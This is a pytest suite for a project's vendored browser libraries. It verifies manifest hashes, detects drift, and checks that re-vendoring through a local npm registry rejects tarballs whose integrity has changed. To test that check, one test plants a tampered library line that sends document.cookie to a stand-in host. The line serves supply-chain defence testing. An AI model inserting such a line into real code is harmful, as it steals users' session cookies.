"""Vendored browser libraries (api/vendor.py): the committed files match their manifest,
the check finds every kind of drift, and re-vendoring verifies what npm gets.

Re-vendoring runs the real `npm`. The registry it asks is an outside system: the
tests run a small one on 127.0.0.1 (the two GETs npm makes: a package's metadata,
its tarball) serving tarballs built by `npm pack` from package folders made here,
so they need no network. One test re-vendors React through npm's own configured
registry and compares it with the committed files. Tests that need npm are skipped
without it; `--check` never needs it.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest

from api import vendor

NPM = shutil.which("npm")
needs_npm = pytest.mark.skipif(NPM is None, reason="npm (Node.js) is not installed")
STUDIO = Path(sys.executable).with_name("studio")


# -- what is committed ----------------------------------------------------------------------


def test_the_committed_files_match_the_manifest() -> None:
    assert vendor.check() == []


def test_every_vendored_package_has_its_licence_and_integrity() -> None:
    manifest = vendor.read_manifest()
    assert {p.name for p in manifest.packages} >= {"react", "react-dom", "graphiql"}
    for package in manifest.packages:
        paths = {file.path for file in package.files}
        assert package.license, package.name
        assert "package.json" in paths, package.name
        assert set(package.license_files) <= paths, package.name
        assert package.integrity.startswith("sha512-"), package.name
        published = json.loads((vendor.VENDOR_DIR / package.directory / "package.json").read_text())
        assert (published["name"], published["version"]) == (package.name, package.version)
        assert published["license"] == package.license


def test_the_manifest_names_no_host() -> None:
    text = (vendor.VENDOR_DIR / vendor.MANIFEST).read_text()
    assert "://" not in text
    assert "tarball" not in text


# -- the check fails on drift ---------------------------------------------------------------


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """A copy of web/vendor/ to spoil."""
    target = tmp_path / "vendor"
    shutil.copytree(vendor.VENDOR_DIR, target)
    assert vendor.check(target) == []
    return target


def test_check_finds_a_changed_file(copy: Path) -> None:
    path = copy / "react@18.2.0" / "umd" / "react.production.min.js"
    data = bytearray(path.read_bytes())
    data[100] ^= 1
    path.write_bytes(bytes(data))
    assert vendor.check(copy) == [
        "react@18.2.0/umd/react.production.min.js does not match its SHA-256 in the manifest"
    ]


def test_check_finds_a_missing_file_and_a_stray_one(copy: Path) -> None:
    (copy / "react@18.2.0" / "LICENSE").unlink()
    (copy / "react@18.2.0" / "extra.js").write_text("alert(1)")
    assert vendor.check(copy) == [
        "react@18.2.0/LICENSE is in the manifest but not on disk",
        "react@18.2.0/extra.js is not in the manifest",
    ]


def test_check_finds_a_declaration_not_vendored_yet(copy: Path) -> None:
    declaration = copy / vendor.DECLARATION
    text = declaration.read_text().replace('version = "18.2.0"', 'version = "18.3.1"', 1)
    declaration.write_text(text)
    assert sorted(vendor.check(copy)) == [
        "react@18.2.0 is vendored but not declared: run ./dev vendor",
        "react@18.3.1 is declared but not vendored: run ./dev vendor",
    ]


def test_check_reports_a_malformed_declaration(copy: Path) -> None:
    (copy / vendor.DECLARATION).write_text('[[package]]\nname = "react"\nversion = "^18"\n')
    [problem] = vendor.check(copy)
    assert "not an exact version" in problem


# -- integrity --------------------------------------------------------------------------------


def sri(data: bytes, algorithm: str = "sha512") -> str:
    return f"{algorithm}-" + base64.b64encode(hashlib.new(algorithm, data).digest()).decode()


def test_integrity_accepts_the_matching_hash_and_refuses_others() -> None:
    data = b"console.log(1)"
    vendor.verify_integrity(data, sri(data))
    vendor.verify_integrity(data, f"{sri(b'other', 'sha256')} {sri(data, 'sha512')}")
    with pytest.raises(vendor.VendorError, match="does not match"):
        vendor.verify_integrity(data + b" ", sri(data))
    with pytest.raises(vendor.VendorError, match="no sha512"):
        vendor.verify_integrity(data, "sha1-" + base64.b64encode(b"x" * 20).decode())


def test_check_needs_no_npm(tmp_path: Path) -> None:
    """`studio vendor --check` with a PATH that has no npm (nor anything else)."""
    result = run_studio(["vendor", "--check"], path=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "match web/vendor/manifest.json" in result.stdout


def test_vendor_without_npm_says_so_and_exits_2(tmp_path: Path) -> None:
    before = (vendor.VENDOR_DIR / vendor.MANIFEST).read_bytes()
    result = run_studio(["vendor"], path=tmp_path)
    assert result.returncode == 2
    assert "re-vendoring needs npm" in result.stderr
    assert "Traceback" not in result.stderr
    assert (vendor.VENDOR_DIR / vendor.MANIFEST).read_bytes() == before


def run_studio(args: list[str], *, path: Path) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PATH": str(path)}
    return subprocess.run(
        [str(STUDIO), *args], capture_output=True, text=True, env=environment, check=False
    )


# -- re-vendoring through npm, from a registry on 127.0.0.1 -----------------------------------


class Registry:
    """A registry holding tarballs by (name, version), answering npm's two GETs:
    `/<name>` (the package's metadata, `/` in a scoped name sent as %2F) and the
    tarball URL that metadata gives."""

    def __init__(self) -> None:
        self.tarballs: dict[tuple[str, str], bytes] = {}
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def metadata(self, name: str) -> dict[str, object]:
        versions = {}
        for (package, version), data in self.tarballs.items():
            if package == name:
                tarball = f"{self.url}/-/{name.replace('/', '-')}-{version}.tgz"
                dist = {
                    "tarball": tarball,
                    "integrity": vendor.sha512_integrity(data),
                    "shasum": hashlib.sha1(data).hexdigest(),  # noqa: S324 (npm's field)
                }
                versions[version] = {"name": name, "version": version, "dist": dist}
        latest = sorted(versions)[-1] if versions else None
        return {"name": name, "dist-tags": {"latest": latest}, "versions": versions}

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        registry = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = unquote(self.path.partition("?")[0])
                body: bytes | None = None
                kind = "application/json"
                for (name, version), data in registry.tarballs.items():
                    if path == f"/-/{name.replace('/', '-')}-{version}.tgz":
                        body, kind = data, "application/octet-stream"
                    elif path == f"/{name}":
                        body = json.dumps(registry.metadata(name)).encode()
                status = 200 if body is not None else 404
                body = body if body is not None else b'{"error": "Not found"}'
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        return Handler

    def __enter__(self) -> Registry:
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


NAME, VERSION = "@scope/lib", "1.2.3"
FILES = {
    "package.json": json.dumps({"name": NAME, "version": VERSION, "license": "MIT"}).encode(),
    "LICENSE.md": b"MIT License\n",
    "dist/lib.umd.js": b"window.Lib = {};\n",
    "dist/other.js": b"not wanted\n",
}


def npm_pack(folder: Path, files: dict[str, bytes]) -> bytes:
    """The tarball real `npm pack` makes of a package folder holding `files` (offline)."""
    assert NPM is not None
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    out = folder.parent / f"{folder.name}-packed"
    out.mkdir()
    result = subprocess.run(
        [NPM, "pack", str(folder), "--json", "--ignore-scripts", "--pack-destination", str(out)],
        capture_output=True,
        text=True,
        check=True,
    )
    [packed] = json.loads(result.stdout)
    data = (out / str(packed["filename"])).read_bytes()
    assert packed["integrity"] == vendor.sha512_integrity(data)
    return data


@pytest.fixture(scope="module")
def tarball(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    if NPM is None:
        pytest.skip("npm (Node.js) is not installed")
    return npm_pack(tmp_path_factory.mktemp("lib"), FILES)


@pytest.fixture
def registry(tarball: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Registry]:
    """A registry on 127.0.0.1 holding @scope/lib@1.2.3; npm caches in a folder of this test."""
    monkeypatch.setenv("npm_config_cache", str(tmp_path / "npm-cache"))
    with Registry() as running:
        running.tarballs[NAME, VERSION] = tarball
        yield running


def declare(directory: Path, files: list[str], version: str = VERSION) -> None:
    directory.mkdir(exist_ok=True)
    listed = ", ".join(json.dumps(f) for f in files)
    (directory / vendor.DECLARATION).write_text(
        f'[[package]]\nname = "{NAME}"\nversion = "{version}"\nfiles = [{listed}]\n'
    )


def test_fetch_writes_the_declared_files_licences_and_manifest(
    registry: Registry, tarball: bytes, tmp_path: Path
) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"])
    (directory / "old@0.1.0").mkdir()
    (directory / "old@0.1.0" / "gone.js").write_text("")
    manifest = vendor.fetch(directory, registry=registry.url)
    [package] = manifest.packages
    assert (package.name, package.version, package.license) == (NAME, VERSION, "MIT")
    assert package.license_files == ["LICENSE.md"]
    assert [f.path for f in package.files] == ["LICENSE.md", "dist/lib.umd.js", "package.json"]
    assert package.integrity == vendor.sha512_integrity(tarball)
    written = directory / "@scope" / "lib@1.2.3"
    assert {path: (written / path).read_bytes() for path in FILES if path != "dist/other.js"} == {
        path: data for path, data in FILES.items() if path != "dist/other.js"
    }
    assert not (written / "dist" / "other.js").exists()
    assert not (directory / "old@0.1.0").exists()
    assert vendor.read_manifest(directory) == manifest
    assert vendor.check(directory) == []
    assert registry.url not in (directory / vendor.MANIFEST).read_text()


def test_fetch_refuses_a_known_version_whose_tarball_changed(
    registry: Registry, tmp_path: Path
) -> None:
    """The registry now serves another tarball as @scope/lib@1.2.3, with metadata that
    agrees with it (so npm takes it): the integrity in manifest.json does not."""
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"])
    vendor.fetch(directory, registry=registry.url)
    before = {p: p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}
    tampered = {**FILES, "dist/lib.umd.js": b"fetch('//elsewhere/?' + document.cookie);\n"}
    registry.tarballs[NAME, VERSION] = npm_pack(tmp_path / "tampered", tampered)
    with pytest.raises(vendor.VendorError, match=r"does not match the integrity recorded in"):
        vendor.fetch(directory, registry=registry.url)
    assert {p: p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()} == before


def test_fetch_names_a_file_the_package_does_not_have(registry: Registry, tmp_path: Path) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/missing.js"])
    with pytest.raises(
        vendor.VendorError, match=r"@scope/lib@1\.2\.3 has no file dist/missing\.js"
    ):
        vendor.fetch(directory, registry=registry.url)
    assert sorted(p.name for p in directory.iterdir()) == [vendor.DECLARATION]


def test_fetch_names_a_version_the_registry_does_not_have(
    registry: Registry, tmp_path: Path
) -> None:
    directory = tmp_path / "vendor"
    declare(directory, ["dist/lib.umd.js"], version="9.9.9")
    with pytest.raises(vendor.VendorError, match=r"@scope/lib@9\.9\.9: `npm pack` failed: No"):
        vendor.fetch(directory, registry=registry.url)


def test_unpack_refuses_a_tarball_that_does_not_match_its_integrity(tarball: bytes) -> None:
    wanted = vendor.DeclaredPackage(name=NAME, version=VERSION, files=["dist/lib.umd.js"])
    package, files = vendor.unpack(wanted, tarball, vendor.sha512_integrity(tarball))
    assert files["dist/lib.umd.js"] == FILES["dist/lib.umd.js"]
    spoiled = bytearray(tarball)
    spoiled[len(spoiled) // 2] ^= 1
    with pytest.raises(vendor.VendorError, match=r"@scope/lib@1\.2\.3: the tarball does not match"):
        vendor.unpack(wanted, bytes(spoiled), package.integrity)


# -- re-vendoring through npm's own registry ---------------------------------------------------


@needs_npm
def test_re_vendoring_react_through_npm_gives_the_committed_files(tmp_path: Path) -> None:
    """Through whichever registry npm is configured with, as `./dev vendor` does."""
    directory = tmp_path / "vendor"
    directory.mkdir()
    committed = vendor.read_manifest().package("react")
    (directory / vendor.DECLARATION).write_text(
        f'[[package]]\nname = "react"\nversion = "{committed.version}"\n'
        'files = ["umd/react.production.min.js"]\n'
    )
    shutil.copy(vendor.VENDOR_DIR / vendor.MANIFEST, directory / vendor.MANIFEST)
    [package] = vendor.fetch(directory).packages
    assert package == committed
    for file in committed.files:
        path = f"{committed.directory}/{file.path}"
        assert (directory / path).read_bytes() == (vendor.VENDOR_DIR / path).read_bytes()
